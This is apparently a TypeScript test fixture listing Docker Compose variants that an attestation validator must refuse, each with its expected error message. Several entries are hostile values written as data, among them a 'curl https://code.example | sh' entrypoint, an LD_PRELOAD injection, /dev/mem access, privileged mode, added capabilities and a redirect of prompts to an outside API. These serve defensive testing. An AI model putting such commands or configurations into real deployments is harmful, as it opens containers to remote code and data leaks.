// Launch files of images that there are not: of version 2, as `npm run launch` writes it, and of version 1.
import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { writeLaunch } from '../../proto/attestation/launch.ts';

/** What Compose prints of compose.yaml, compose.cpu.yaml and compose.measured.yaml (test/deploy/compose-overlays.deploy.ts). */
export const COMPOSE = readFileSync(new URL('measured-compose.json', import.meta.url), 'utf8');
export const WEIGHTS = { name: 'Qwen/Qwen3-8B@b968826d9c46dd6066d109eabc6255188de91218', verity_root: 'cd'.repeat(32) };

/** The launch file of this compose file. */
export function launchOf(compose: string, more: Partial<Parameters<typeof writeLaunch>[0]> = {}): string {
  return writeLaunch({ compose_sha256: hash('sha256', compose), weights: [WEIGHTS], operator: null, compose, ...more });
}

export const LAUNCH = launchOf(COMPOSE);
export const LAUNCH_SHA256 = hash('sha256', LAUNCH);

const IMAGES = ['backend', 'gateway', 'sidecar'].map((name) => [name, `${name}@sha256:${'ab'.repeat(32)}`]);
export const LAUNCH_1 = JSON.stringify({
  version: 1,
  images: Object.fromEntries(IMAGES),
  compose_sha256: 'cd'.repeat(32),
  model: { name: 'demo', verity_root: null },
  egress: 'none',
  login: false,
  operator: null,
});

type Compose = Record<string, unknown> & { services: Record<string, Record<string, unknown>> };

/** The compose file with a change. */
export function changed(change: (compose: Compose) => unknown): string {
  const compose = JSON.parse(COMPOSE) as Compose;
  change(compose);
  return JSON.stringify(compose);
}

const service = (name: string, members: object) =>
  changed(({ services }) => Object.assign(services[name] as object, members));
const variable = (name: string, variables: object) =>
  changed(({ services }) => Object.assign(services[name]?.environment as object, variables));
const mount = (name: string, source: string, target: string, more: object = { read_only: true }) =>
  changed(({ services }) =>
    (services[name] as { volumes: unknown[] }).volumes.push({ type: 'bind', source, target, ...more }),
  );
const flags = (...words: readonly string[]) =>
  changed(({ services }) => (services.backend as { command: string[] }).command.push(...words));
const command = (...words: readonly string[]) => service('backend', { command: words });
const networks = (change: (networks: Record<string, Record<string, unknown>>) => unknown) =>
  changed((compose) => change(compose.networks as Record<string, Record<string, unknown>>));
const root = (digits: string) => `/run/weights/${digits.repeat(32)}`;

/** Compose files that would have the same members in a launch file of version 1, and what is said of each. */
export const REFUSED: readonly (readonly [name: string, compose: string, message: string])[] = [
  // Three that send prompts elsewhere or load code from elsewhere.
  [
    'a backend elsewhere',
    variable('gateway', { BACKEND_URL: 'https://api.example/v1' }),
    'has another value in services.gateway.environment.BACKEND_URL than it may have',
  ],
  [
    'code from a hub, over a network with a way out',
    service('backend', {
      command: ['org/model', '--trust-remote-code'],
      environment: { HF_HUB_OFFLINE: '0' },
      networks: { outside: null },
    }),
    'has another value in services.backend.environment.HF_HUB_OFFLINE than it may have',
  ],
  [
    'a program of its own',
    service('backend', { entrypoint: ['sh', '-c', 'curl https://code.example | sh'] }),
    'has another value in services.backend.entrypoint than it may have',
  ],
  // The model.
  ['remote code', flags('--trust-remote-code'), 'has another value in services.backend.command[9] than it may have'],
  [
    'other weights beside',
    flags('--lora-modules', 'x=y'),
    'has another value in services.backend.command[9] than it may have',
  ],
  ['a flag without its value', flags('--port'), 'has another value in services.backend.command than it may have'],
  ['a second model', flags('--model', 'org/model'), 'has another value in services.backend.command than it may have'],
  [
    'a model behind a switch',
    flags('--enforce-eager', 'org/model'),
    'has another value in services.backend.command[10] than it may have',
  ],
  ['a model of a hub', command('org/model'), 'has the backend load another model than the weights that are mounted'],
  [
    'a model above the mounts',
    command('/weights/../models'),
    'has the backend load another model than the weights that are mounted',
  ],
  [
    'a model beside the mount',
    command('/weights2'),
    'has the backend load another model than the weights that are mounted',
  ],
  ['no model', command('--port', '8000'), 'has the backend load another model than the weights that are mounted'],
  // Mounts.
  [
    'weights that can be written',
    mount('backend', root('ef'), '/models', {}),
    'has another value in services.backend.volumes[1] than it may have',
  ],
  [
    'a root that is no 64 digits',
    mount('backend', '/run/weights/cd', '/models'),
    'has another value in services.backend.volumes[1] than it may have',
  ],
  [
    'a source that is relative',
    mount('backend', `.${root('ef')}`, '/models'),
    'has another value in services.backend.volumes[1] than it may have',
  ],
  [
    'a source above the mounts',
    mount('backend', `${root('ef')}/..`, '/models'),
    'has another value in services.backend.volumes[1] than it may have',
  ],
  [
    'weights over code',
    mount('backend', root('ef'), '/usr/lib'),
    'has another value in services.backend.volumes[1] than it may have',
  ],
  ['weights over weights', mount('backend', root('ef'), '/weights/part'), 'mounts weights twice, or one above another'],
  ['weights twice', mount('backend', root('cd'), '/models'), 'mounts weights twice, or one above another'],
  [
    'a folder of the host',
    mount('gateway', '/srv', '/srv'),
    'has another value in services.gateway.volumes[2] than it may have',
  ],
  [
    'an option of a mount',
    mount('backend', root('ef'), '/models', { read_only: true, bind: { propagation: 'shared' } }),
    'may not have services.backend.volumes[1].bind.propagation',
  ],
  [
    'memory over the weights',
    service('backend', { tmpfs: ['/weights'] }),
    'has another value in services.backend.tmpfs[0] than it may have',
  ],
  [
    'a volume of the host',
    changed((compose) =>
      Object.assign(compose.volumes as object, {
        audit: { name: 'countersign_audit', driver_opts: { type: 'none', o: 'bind', device: '/etc' } },
      }),
    ),
    'has another value in volumes.audit.driver_opts.type than it may have',
  ],
  // Services.
  [
    'an image by a tag',
    service('gateway', { image: 'gateway:1' }),
    'has another value in services.gateway.image than it may have',
  ],
  ['no image', service('gateway', { image: null }), 'has no services.gateway.image'],
  [
    'a service that is not named',
    changed(({ services }) => Object.assign(services, { other: services.tsm })),
    'may not have services.other',
  ],
  ['no sidecar', changed(({ services }) => delete services.sidecar), 'has no service sidecar'],
  [
    'another image beside the sidecar',
    service('tsm', { image: `tsm@sha256:${'ab'.repeat(32)}` }),
    'gives tsm another image than the sidecar',
  ],
  ['privileges', service('backend', { privileged: true }), 'may not have services.backend.privileged'],
  ['a capability', service('gateway', { cap_add: ['SYS_ADMIN'] }), 'may not have services.gateway.cap_add'],
  [
    'another capability',
    service('ready', { cap_add: ['SYS_ADMIN', 'SYS_PTRACE'] }),
    'has another value in services.ready.cap_add than it may have',
  ],
  [
    'a command of the gateway',
    service('gateway', { command: ['node', '-e', '1'] }),
    'has another value in services.gateway.command than it may have',
  ],
  [
    'a healthcheck of its own',
    service('backend', { healthcheck: { test: ['CMD-SHELL', 'true'] } }),
    'has another value in services.backend.healthcheck.test than it may have',
  ],
  [
    'a log elsewhere',
    service('gateway', { logging: { driver: 'syslog' } }),
    'has another value in services.gateway.logging.driver than it may have',
  ],
  [
    'a device',
    service('sidecar', { devices: [{ source: '/dev/mem', target: '/dev/mem' }] }),
    'has another value in services.sidecar.devices[0].source than it may have',
  ],
  ...[
    'build',
    'container_name',
    'env_file',
    'extends',
    'extra_hosts',
    'pid',
    'ipc',
    'profiles',
    'provider',
    'configs',
    'secrets',
    'x-more',
  ].map((name) => [name, service('backend', { [name]: {} }), `may not have services.backend.${name}`] as const),
  ...['include', 'secrets', 'configs', 'version'].map(
    (name) =>
      [
        `${name} of the file`,
        changed((compose) => Object.assign(compose, { [name]: {} })),
        `may not have ${name}`,
      ] as const,
  ),
  // Networks.
  [
    'the network of the host',
    service('tsm', { network_mode: 'host' }),
    'has another value in services.tsm.network_mode than it may have',
  ],
  ['no network', service('backend', { networks: {} }), 'has no services.backend.networks'],
  [
    'a network with a way out',
    service('backend', { networks: { outside: null } }),
    'may not have services.backend.networks.outside',
  ],
  [
    'a name on a network',
    service('sidecar', { networks: { attestation: { aliases: ['backend'] } } }),
    'may not have services.sidecar.networks.attestation.aliases',
  ],
  [
    'an inside that leads out',
    networks(({ inside }) => delete inside?.internal),
    'lets the backend out: its network inside is not internal',
  ],
  [
    'no internal network',
    networks(({ inside }) => Object.assign(inside ?? {}, { internal: false })),
    'has another value in networks.inside.internal than it may have',
  ],
  [
    'a network that exists',
    networks(({ inside }) => Object.assign(inside ?? {}, { external: true })),
    'may not have networks.inside.external',
  ],
  [
    'a network under another name',
    networks(({ inside }) => Object.assign(inside ?? {}, { name: 'bridge' })),
    'has another value in networks.inside.name than it may have',
  ],
  [
    "a driver's options",
    networks(({ inside }) => Object.assign(inside ?? {}, { driver_opts: {} })),
    'may not have networks.inside.driver_opts',
  ],
  [
    'a gateway that does not share the network of the backend',
    service('gateway', { networks: { outside: null } }),
    'has the gateway outside of the network of the backend',
  ],
  [
    'no network of the gateway',
    service('gateway', { networks: null, network_mode: 'none' }),
    'may not have services.gateway.network_mode',
  ],
  // Values of Compose and Docker.
  [
    'a program for init',
    service('gateway', { init: '/weights/x' }),
    'has another value in services.gateway.init than it may have',
  ],
  [
    'a restart of its own',
    service('gateway', { restart: 'on-failure:x' }),
    'has another value in services.gateway.restart than it may have',
  ],
  [
    "another service's devices",
    changed(({ services }) =>
      Object.assign(services.backend ?? {}, {
        deploy: { resources: { reservations: { devices: [{ device_ids: ['../0'], capabilities: ['gpu'] }] } } },
      }),
    ),
    'has another value in services.backend.deploy.resources.reservations.devices[0].device_ids[0] than it may have',
  ],
  [
    'a folder in place of memory',
    changed((compose) =>
      Object.assign(compose.volumes as object, {
        audit: { name: 'countersign_audit', driver_opts: { type: 'tmpfs', o: 'size=1m,bind', device: 'tmpfs' } },
      }),
    ),
    'has another value in volumes.audit.driver_opts.o than it may have',
  ],
  [
    'a file of API keys',
    mount('gateway', '/run/countersign/api-keys', '/run/secrets/api_keys'),
    'has another value in services.gateway.volumes[2] than it may have',
  ],
  // Variables.
  [
    "an image's variable without its value",
    variable('backend', { PATH: null }),
    'may not have services.backend.environment.PATH',
  ],
  [
    "an image's variable that is empty",
    variable('gateway', { SIDECAR_UID: '' }),
    'may not have services.gateway.environment.SIDECAR_UID',
  ],
  [
    'a variable that is not known',
    variable('backend', { LD_PRELOAD: '/weights/a.so' }),
    'may not have services.backend.environment.LD_PRELOAD',
  ],
  [
    'a variable of Node',
    variable('gateway', { NODE_OPTIONS: '--import=x' }),
    'may not have services.gateway.environment.NODE_OPTIONS',
  ],
  [
    'a store elsewhere',
    variable('gateway', { ATTESTATION_STORE_URL: 'redis://a' }),
    'may not have services.gateway.environment.ATTESTATION_STORE_URL',
  ],
  [
    'several backends',
    variable('gateway', { BACKENDS_FILE: '/x' }),
    'may not have services.gateway.environment.BACKENDS_FILE',
  ],
  [
    'a simulated attester',
    variable('sidecar', { ATTESTER: 'simulated' }),
    'has another value in services.sidecar.environment.ATTESTER than it may have',
  ],
  ['a prototype', variable('gateway', { constructor: 'x' }), 'may not have services.gateway.environment.constructor'],
  [
    'a number for a text',
    variable('gateway', { MAX_BODY_BYTES: 7 }),
    'has another value in services.gateway.environment.MAX_BODY_BYTES than it may have',
  ],
  ['no backend', variable('gateway', { BACKEND_URL: null }), 'has no services.gateway.environment.BACKEND_URL'],
  [
    'a variable of Compose',
    variable('gateway', { LOG_LEVEL: ['$', '{LEVEL}'].join('') }),
    'has a variable in services.gateway.environment.LOG_LEVEL',
  ],
  [
    'three dollars',
    variable('gateway', { LOG_LEVEL: '$$$A' }),
    'has a variable in services.gateway.environment.LOG_LEVEL',
  ],
  [
    'a variable in what nobody reads',
    changed((compose) => Object.assign(compose, { 'x-a': ['$A'] })),
    'has a variable in x-a.0',
  ],
  // The text.
  ['no JSON', 'services: {}', 'is not JSON'],
  ['no object', '[]', 'is not an object'],
  [
    'a list of services',
    changed((compose) => Object.assign(compose, { services: [] })),
    'has another value in services than it may have',
  ],
  ['a member twice', COMPOSE.replace('{', '{"name":"other",'), 'is refused: a member appears twice'],
  [
    'two services of one name',
    COMPOSE.replace('"backend": {', '"gateway": {},"gateway": {},"backend": {'),
    'is refused: a member appears twice',
  ],
  [
    'a service twice, in an escape',
    COMPOSE.replace('"backend": {', '"\\u0062ackend": {},"backend": {'),
    'is refused: a member appears twice',
  ],
  ['a text that is nested deeply', `{"x-a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`, 'is nested more than 16 deep'],
  ['a letter with an accent', COMPOSE.replace('Qwen3', 'Qwén3'), 'has characters other than printable ASCII'],
  [
    'an escaped control character',
    COMPOSE.replace('Qwen3', 'Qwen\\u001b3'),
    'has other characters than printable ASCII in services.backend.command.2',
  ],
  [
    'a name with a space',
    changed((compose) => Object.assign(compose, { 'x-a': { 'a b': 1 } })),
    'has a name that it may not have in x-a',
  ],
  ['no name', changed((compose) => delete compose.name), 'has no name'],
  [
    'a name of its own',
    changed((compose) => Object.assign(compose, { name: '../x' })),
    'has another value in name than it may have',
  ],
];
